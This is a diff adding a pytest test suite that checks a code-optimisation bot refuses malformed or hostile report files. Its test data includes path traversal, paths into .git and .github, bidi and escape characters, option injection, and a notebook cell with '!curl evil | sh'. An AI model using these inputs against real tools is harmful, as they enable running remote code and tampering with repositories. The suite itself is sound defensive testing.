@@ -1,0 +1,470 @@
+"""A report may hold anything: what is malformed posts nothing and says why, what is old is left out."""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from codeopt.bot.artifact import ArtifactLimits, ArtifactRefused, Reading, read_artifact
+from codeopt.bot.checkout import CheckoutUnreadable
+from codeopt.bot.texts import patched
+from codeopt.suggestion import unified_diff
+
+BEFORE = "import numpy as np\n\n\ndef mean(x):\n    y = x * 2\n    return y.mean()\n"
+AFTER = BEFORE.replace("y = x * 2\n    return y.mean()", "return (x * 2).mean()")
+LIMITS = ArtifactLimits()
+
+
+def cell(kind: str, source: list[str]) -> dict[str, Any]:
+    outputs = {"execution_count": 3, "outputs": []} if kind == "code" else {}
+    return {"cell_type": kind, "metadata": {}, **outputs, "source": source}
+
+
+CELLS = [
+    cell("markdown", ["# Title\n", "text"]),
+    cell("code", ["%matplotlib inline\n", "y = x * 2\n", "z = y.mean()"]),
+    cell("code", ["print(z)"]),
+]
+
+
+def notebook(*cells: dict[str, Any]) -> str:
+    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1) + "\n"
+
+
+NOTEBOOK = notebook(*CELLS)
+NEW_NOTEBOOK = NOTEBOOK.replace('"y = x * 2\\n"', '"y = x + x\\n"')
+
+
+def git(folder: Path, *arguments: str) -> str:
+    settings = ("-c", "user.name=t", "-c", "user.email=t@example.org", "-c", "commit.gpgsign=false")
+    command = ["git", "-C", str(folder), *settings, *arguments]
+    return subprocess.run(command, check=True, capture_output=True, text=True).stdout
+
+
+@pytest.fixture(scope="module")
+def checkout(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A repository with files of every kind that a report could name."""
+    root = tmp_path_factory.mktemp("checkout")
+    git(root, "init", "-q", "-b", "main")
+    (root / "src").mkdir()
+    (root / "src/stats.py").write_text(BEFORE)
+    (root / "src/marked.py").write_bytes(b"\xef\xbb\xbf" + BEFORE.replace("\n", "\r\n").encode())
+    (root / "src/latin.py").write_bytes("# -*- coding: latin-1 -*-\nname = 'Zoë'\n".encode("latin-1"))
+    (root / "nb.ipynb").write_text(NOTEBOOK)
+    (root / "outside.py").symlink_to("/etc/hostname")
+    (root / "linked").symlink_to("/tmp")
+    (root / ".github/workflows").mkdir(parents=True)
+    (root / ".github/workflows/tool.py").write_text(BEFORE)
+    git(root, "add", "-A")
+    git(root, "commit", "-q", "-m", "first")
+    (root / "src/untracked.py").write_text(BEFORE)
+    return root
+
+
+def suggestion(path: str = "src/stats.py", before: str = BEFORE, after: str = AFTER) -> dict[str, Any]:
+    return {
+        "id": "0123abcd",
+        "path": path,
+        "function": "mean",
+        "line": 4,
+        "rules": ["MEM210"],
+        "trust": "exact",
+        "sites": [{"rule": "MEM210", "path": path, "line": 5, "end_line": 6, "saved_bytes": 8_000_000}],
+        "diff": unified_diff(path, before, after),
+        "source": after,
+        "other_files": [],
+        "workload": {"origin": "declared", "ref": "w.py:3", "scale": 1.0, "coverage": {}},
+        "baseline": {"peak_bytes": 16_000_000, "seconds": 0.25, "resident_bytes": 1},
+        "optimized": {"peak_bytes": 8_000_000, "seconds": 0.2, "resident_bytes": 1},
+        "floor_bytes": 8,
+        "equivalence": {
+            "verdict": "same", "level": "exact", "cases": 120, "self_check": True, "unstable": [],
+            "faults_planted": 9, "faults_caught": 9, "max_error": 0.0, "caveats": [],
+        },
+        "tests": [],
+        "pareto": [],
+    }  # fmt: skip
+
+
+def report(*suggestions: dict[str, Any]) -> dict[str, Any]:
+    return {"version": 1, "environment": {}, "suggestions": list(suggestions), "unproven": [], "stats": {}}
+
+
+@pytest.fixture
+def read(checkout: Path, tmp_path: Path) -> Callable[..., Reading]:
+    """Read a report that holds these suggestions, or these bytes."""
+
+    def run(*given: dict[str, Any], data: bytes | None = None, limits: ArtifactLimits = LIMITS) -> Reading:
+        file = tmp_path / "report.json"
+        file.write_bytes(json.dumps(report(*given)).encode() if data is None else data)
+        return read_artifact(file, checkout, limits)
+
+    return run
+
+
+Read = Callable[..., Reading]
+
+
+def refusal(read: Read, *given: dict[str, Any], **more: Any) -> str:
+    with pytest.raises(ArtifactRefused) as error:
+        read(*given, **more)
+    message = str(error.value)
+    assert "report.json: refused, nothing is posted: " in message
+    assert message.isprintable()
+    assert error.value.exit_code == 2
+    return message
+
+
+def changed(place: str, value: Any, base: dict[str, Any] | None = None) -> dict[str, Any]:
+    """A suggestion with another value at a place such as `baseline.seconds`."""
+    found = copy.deepcopy(base or suggestion())
+    *parents, last = place.split(".")
+    inner = found
+    for parent in parents:
+        inner = inner[parent]
+    inner[last] = value
+    return found
+
+
+def test_a_good_report(read: Read) -> None:
+    (found,) = read(suggestion()).proposals
+    assert (found.group, found.path, found.before, found.after) == (
+        "src/stats.py::mean", "src/stats.py", BEFORE, AFTER,
+    )  # fmt: skip
+    assert found.title == "Lower the peak memory of mean by 50 %"
+    assert found.diff == unified_diff("src/stats.py", BEFORE, AFTER)
+    assert (found.saved_bytes, found.cases, found.faults_caught) == (8_000_000, 120, 9)
+
+
+def test_unknown_fields_and_an_empty_report_are_fine(read: Read) -> None:
+    assert read(changed("from_the_future", [1, {"a": None}])).proposals
+    assert read() == Reading((), ())
+
+
+def test_a_byte_order_mark_and_line_ends_stay(read: Read) -> None:
+    before, after = (text.replace("\n", "\r\n") for text in (BEFORE, AFTER))
+    (found,) = read(suggestion("src/marked.py", before, after)).proposals
+    assert found.before == "\ufeff" + before
+    assert found.after == "\ufeff" + after
+
+
+def test_a_notebook(read: Read) -> None:
+    (found,) = read(suggestion("nb.ipynb", NOTEBOOK, NEW_NOTEBOOK)).proposals
+    assert found.after == NEW_NOTEBOOK
+
+
+@pytest.mark.parametrize(
+    ("path", "cause"),
+    [
+        ("../etc/passwd.py", "leads out of the repository"),
+        ("src/../../x.py", "leads out of the repository"),
+        ("src/./stats.py", "not in its plain form"),
+        ("src//stats.py", "not in its plain form"),
+        ("/etc/x.py", "is absolute"),
+        ("~root/x.py", "is absolute"),
+        ("C:/x.py", "is absolute"),
+        ("src\\stats.py", "characters that no path should hold"),
+        ("src/a\nb.py", "characters that no path should hold"),
+        ("src/a\x1b[2Jb.py", "characters that no path should hold"),
+        ("src/\u202eyp.stats.py", "characters that no path should hold"),
+        (".git/hooks/x.py", "leads into .git"),
+        ("src/.GIT/x.py", "leads into .git"),
+        (".git./x.py", "leads into .git"),
+        ("GIT~1/x.py", "leads into git~1"),
+        (".g\u200cit/x.py", "characters that no path should hold"),
+        (".github/workflows/tool.py", "leads into .github"),
+        (".gitlab/x.py", "leads into .gitlab"),
+        (".github/workflows/ci.yml", "leads into .github"),
+        ("action.yml", "neither that of a Python file nor of a notebook"),
+        ("src/stats.PY", "neither that of a Python file nor of a notebook"),
+        ("src/stats.py\x00.yml", "characters that no path should hold"),
+        ("", "at `$.suggestions[0].path`"),
+        ("a/" * 600 + "x.py", "at `$.suggestions[0].path`"),
+    ],
+)
+def test_paths_that_no_run_would_name(read: Read, path: str, cause: str) -> None:
+    assert cause in refusal(read, suggestion(path))
+
+
+@pytest.mark.parametrize(
+    ("place", "value", "cause"),
+    [
+        ("line", "4", ""),
+        ("path", 7, "Expected `str`, got `int` - at `$.suggestions[0].path`"),
+        ("rules", "MEM210", "Expected `array`, got `str` - at `$.suggestions[0].rules`"),
+        ("rules", [], "`$.suggestions[0].rules`"),
+        ("rules", ["[x](http://evil)"], "`$.suggestions[0].rules[0]`"),
+        ("trust", "\x1b[2J", "\\x1b[2J"),
+        ("trust", "certain", "Invalid enum value 'certain' - at `$.suggestions[0].trust`"),
+        ("function", "f\n# Heading", "characters that cannot be shown"),
+        ("function", "f\u202e", "characters that cannot be shown"),
+        ("baseline", None, "`$.suggestions[0].baseline`"),
+        ("baseline.peak_bytes", -1, "`$.suggestions[0].baseline.peak_bytes`"),
+        ("baseline.peak_bytes", 10**30, "`$.suggestions[0].baseline.peak_bytes`"),
+        ("baseline.peak_bytes", 1.5, "`$.suggestions[0].baseline.peak_bytes`"),
+        ("baseline.seconds", 1e9, "`$.suggestions[0].baseline.seconds`"),
+        ("baseline.seconds", -1.0, "`$.suggestions[0].baseline.seconds`"),
+        ("optimized.peak_bytes", 16_000_000, "not below that of the original"),
+        ("floor_bytes", -3, "`$.suggestions[0].floor_bytes`"),
+        ("equivalence.verdict", "differs", "`$.suggestions[0].equivalence.verdict`"),
+        ("equivalence.cases", 0, "`$.suggestions[0].equivalence.cases`"),
+        ("equivalence.faults_caught", 10, "more planted faults were caught"),
+        ("equivalence.level", "lossy", "claims to be exact, but was proven lossy"),
+        ("workload.origin", "@everyone", "`$.suggestions[0].workload.origin`"),
+        ("source", ["a"], "`$.suggestions[0].source`"),
+    ],
+)
+def test_wrong_schema_and_absurd_figures(read: Read, place: str, value: Any, cause: str) -> None:
+    if not cause:
+        # The line is of no use to the bot and not read at all.
+        assert read(changed(place, value)).proposals
+        return
+    assert cause in refusal(read, changed(place, value))
+
+
+def test_one_bad_suggestion_takes_the_good_ones_with_it(read: Read) -> None:
+    message = refusal(read, suggestion(), suggestion("../x.py"))
+    assert "suggestion 2, '../x.py::mean'" in message
+
+
+@pytest.mark.parametrize("missing", ["source", "diff", "baseline", "equivalence", "rules", "function"])
+def test_a_missing_field(read: Read, missing: str) -> None:
+    found = suggestion()
+    del found[missing]
+    assert f"missing required field `{missing}` - at `$.suggestions[0]`" in refusal(read, found)
+
+
+@pytest.mark.parametrize(
+    ("data", "cause"),
+    [
+        (b"", "truncated"),
+        (json.dumps(report(suggestion())).encode()[:-40], "truncated"),
+        (b"\x7fELF\x02\x01\x01\x00", "malformed"),
+        (b"\x1f\x8b\x08\x00", "malformed"),
+        (b'{"version": 1, "suggestions": [{"path": "\xff\xfe"}]}', "invalid start byte"),
+        (b"[]", "Expected `object`, got `array`"),
+        (b'{"version": 2, "suggestions": []}', "Invalid enum value 2 - at `$.version`"),
+        (b'{"version": true, "suggestions": []}', "at `$.version`"),
+        (b'{"version": 1}', "missing required field `suggestions`"),
+        (b'{"version": 1, "suggestions": [], "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "too deeply"),
+        (b'{"version": 1, "suggestions": []} trailing', "trailing characters"),
+        (b'{"version": 1, "suggestions": [], "x": NaN}', "malformed"),
+    ],
+    ids=[
+        "empty", "truncated", "elf", "gzip", "not utf-8", "array", "version", "bool", "none", "deep",
+        "trailing", "nan",
+    ],
+)  # fmt: skip
+def test_what_is_no_report(read: Read, data: bytes, cause: str) -> None:
+    assert cause in refusal(read, data=data)
+
+
+def test_infinite_seconds(read: Read) -> None:
+    data = json.dumps(report(suggestion())).replace("0.25", "1e999").encode()
+    assert "Number out of range" in refusal(read, data=data)
+
+
+def test_sizes(read: Read) -> None:
+    assert "bytes, and 100 are allowed" in refusal(
+        read, suggestion(), limits=ArtifactLimits(report_bytes=100)
+    )
+    limits = ArtifactLimits(suggestions=1)
+    many = [changed("function", name) for name in "ab"]
+    assert "holds 2 suggestions, and 1 are allowed" in refusal(read, *many, limits=limits)
+    limits = ArtifactLimits(file_bytes=50)
+    assert "more than 50 bytes" in refusal(read, suggestion(), limits=limits)
+
+
+def test_a_huge_file_is_not_read(checkout: Path, tmp_path: Path) -> None:
+    file = tmp_path / "report.json"
+    with file.open("wb") as opened:
+        opened.truncate(2**40)
+    with pytest.raises(ArtifactRefused, match="1099511627776 bytes"):
+        read_artifact(file, checkout, LIMITS)
+
+
+def test_links_pipes_and_folders_are_not_read(checkout: Path, tmp_path: Path) -> None:
+    good, link, pipe = tmp_path / "good.json", tmp_path / "link.json", tmp_path / "pipe.json"
+    good.write_text(json.dumps(report()))
+    link.symlink_to(good)
+    os.mkfifo(pipe)
+    cases = [
+        (link, "symbolic link"), (pipe, "not a plain file"), (tmp_path, "not a plain file"),
+        (tmp_path / "none.json", "No such file"),
+    ]  # fmt: skip
+    for file, cause in cases:
+        with pytest.raises(ArtifactRefused, match=cause):
+            read_artifact(file, checkout, LIMITS)
+
+
+def test_a_huge_diff(read: Read) -> None:
+    many = AFTER + "".join(f"x{n} = {n}\n" for n in range(700))
+    assert "changes 70" in refusal(read, suggestion(after=many))
+    wide = AFTER + f"x = '{'a' * 70_000}'\n"
+    assert "characters; 60000 are allowed" in refusal(read, suggestion(after=wide))
+
+
+def test_the_diff_that_is_told_is_not_the_one_that_counts(read: Read) -> None:
+    told = changed("source", AFTER + "import os\nos.system('true')\n")
+    (left_out,) = read(told).skipped
+    assert left_out.reason == "its file changed since the report was made"
+    assert not read(told).proposals
+
+
+def test_duplicate_groups(read: Read) -> None:
+    assert "is there more than once" in refusal(read, suggestion(), suggestion())
+
+
+@pytest.mark.parametrize(
+    ("path", "reason"),
+    [
+        ("src/untracked.py", "not tracked"),
+        ("src/gone.py", "not tracked"),
+        ("outside.py", "is a symbolic link"),
+        ("linked/x.py", "not tracked"),
+        ("src/latin.py", "not UTF-8"),
+    ],
+)
+def test_what_does_not_fit_the_base_is_left_out_alone(read: Read, path: str, reason: str) -> None:
+    found = read(suggestion(path), suggestion())
+    assert [p.path for p in found.proposals] == ["src/stats.py"]
+    assert [s.group for s in found.skipped] == [f"{path}::mean"]
+    assert reason in found.skipped[0].reason
+
+
+def test_a_file_that_changed_since_is_left_out_alone(read: Read) -> None:
+    older = BEFORE.replace("import numpy", "import scipy\nimport numpy")
+    (left_out,) = read(suggestion(before=older, after=AFTER)).skipped
+    assert left_out.reason == "its file changed since the report was made"
+
+
+def test_a_change_of_several_files_is_left_out(read: Read) -> None:
+    other = [{"path": "src/b.py", "source": ""}]
+    assert "several files" in read(changed("other_files", other)).skipped[0].reason
+
+
+def test_only_the_base_commit_counts_not_the_working_tree(read: Read, checkout: Path) -> None:
+    file = checkout / "src/stats.py"
+    file.write_text("something = 'else'\n")
+    try:
+        assert read(suggestion()).proposals[0].before == BEFORE
+    finally:
+        file.write_text(BEFORE)
+
+
+@pytest.mark.parametrize(
+    ("after", "cause"),
+    [
+        (AFTER + "def (:\n", "is not Python"),
+        (AFTER + "x = '\x00'\n", "U+0000"),
+        (AFTER + "x = 1  # \u202e drow\n", "U+202E"),
+        (AFTER + "pass\u200bword = 1\n", "U+200B"),
+        (AFTER + "x = '\x1b[2J'\n", "U+001B"),
+        ("# coding: utf-7\n" + AFTER, "encoding utf-7"),
+        ("# coding: no-such\n" + AFTER, "is not Python"),
+        (AFTER + "x = " + "-" * 50_000 + "1\n", "nested too deeply"),
+        (BEFORE, "changes nothing"),
+    ],
+    ids=["syntax", "nul", "bidi", "zero width", "escape", "utf-7", "unknown encoding", "deep", "nothing"],
+)
+def test_new_texts_that_are_not_taken(read: Read, after: str, cause: str) -> None:
+    assert cause in refusal(read, suggestion(after=after))
+
+
+@pytest.mark.parametrize(
+    ("cells", "cause"),
+    [
+        ([cell("markdown", ["# Other"]), *CELLS[1:]], "outside the source"),
+        ([*CELLS, cell("code", ["import os"])], "outside the source"),
+        ([*CELLS[:2], {**CELLS[2], "outputs": [{"data": "<script>"}]}], "outside the source"),
+        ([*CELLS[:2], cell("code", ["print(z"])], "is not Python in cell 3"),
+        ([*CELLS[:2], cell("code", ["print(z)\n", "!curl evil | sh"])], "magic or a shell command in cell 3"),
+        ([CELLS[0], cell("code", ["%run evil\n", *CELLS[1]["source"][1:]]), CELLS[2]], "magic"),
+        ([*CELLS[:2], cell("code", ["print(z)  # \u202e"])], "cell 3"),
+    ],
+    ids=["markdown", "new cell", "output", "syntax", "shell", "magic", "bidi"],
+)  # fmt: skip
+def test_new_notebooks_that_are_not_taken(read: Read, cells: list[dict[str, Any]], cause: str) -> None:
+    assert cause in refusal(read, suggestion("nb.ipynb", NOTEBOOK, notebook(*cells)))
+
+
+def test_a_diff_that_puts_back_what_it_takes(read: Read) -> None:
+    diff = (
+        "--- a/src/stats.py\n+++ b/src/stats.py\n@@ -1,1 +1,1 @@\n-import numpy as np\n+import numpy as np\n"
+    )
+    assert "changes nothing" in refusal(read, changed("diff", diff, suggestion(after=BEFORE)))
+
+
+def test_a_notebook_that_is_none_any_more(read: Read) -> None:
+    after = NOTEBOOK.replace('"nbformat": 4', '"nbformat": 3')
+    assert "is not a notebook" in refusal(read, suggestion("nb.ipynb", NOTEBOOK, after))
+
+
+def test_a_folder_that_is_no_repository(tmp_path: Path) -> None:
+    file = tmp_path / "report.json"
+    file.write_text(json.dumps(report()))
+    with pytest.raises(CheckoutUnreadable, match="not a git repository"):
+        read_artifact(file, tmp_path, LIMITS)
+
+
+def test_a_base_that_is_an_option(checkout: Path, tmp_path: Path) -> None:
+    file = tmp_path / "report.json"
+    file.write_text(json.dumps(report()))
+    with pytest.raises(CheckoutUnreadable):
+        read_artifact(file, checkout, LIMITS, base="--output=/tmp/x")
+
+
+LINES = st.lists(st.text("ab\\ +-@\x0c\r\t ", max_size=4), max_size=12)
+ENDED = st.sampled_from(["", "\n"])
+
+
+@settings(max_examples=300)
+@given(LINES, LINES, ENDED, ENDED)
+def test_a_diff_put_into_its_old_text_gives_the_new_one(
+    old: list[str], new: list[str], end: str, other_end: str
+) -> None:
+    before, after = "\n".join(old) + end, "\n".join(new) + other_end
+    if before != after:
+        assert patched("a.py", before, unified_diff("a.py", before, after)) == after
+
+
+@settings(max_examples=300)
+@given(LINES, st.text("ab\\ +-@,0123\n", max_size=60))
+def test_a_diff_of_anybodys_ends_in_a_text_or_none(old: list[str], diff: str) -> None:
+    found = patched("a.py", "\n".join(old), f"--- a/a.py\n+++ b/a.py\n{diff}")
+    assert found is None or isinstance(found, str)
+
+
+@settings(max_examples=200, deadline=None)
+@given(data=st.data())
+def test_whatever_value_stands_anywhere_it_is_read_or_refused(
+    checkout: Path, tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
+) -> None:
+    place = data.draw(st.sampled_from([
+        "path", "function", "rules", "trust", "diff", "source", "workload", "baseline.peak_bytes",
+        "optimized.seconds", "floor_bytes", "equivalence.level", "equivalence.cases", "other_files",
+    ]))  # fmt: skip
+    simple = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20)
+    value = data.draw(
+        st.recursive(simple, lambda s: st.lists(s) | st.dictionaries(st.text(), s), max_leaves=5)
+    )
+    file = tmp_path_factory.getbasetemp() / "any.json"
+    file.write_bytes(json.dumps(report(changed(place, value))).encode())
+    try:
+        found = read_artifact(file, checkout, LIMITS)
+    except ArtifactRefused as refused:
+        said = str(refused)
+    else:
+        said = f"{file}: refused, nothing is posted: "
+        assert all(p.path == "src/stats.py" and p.after == AFTER for p in found.proposals)
+    assert said.startswith(f"{file}: refused, nothing is posted: ")
+    assert said.isprintable()
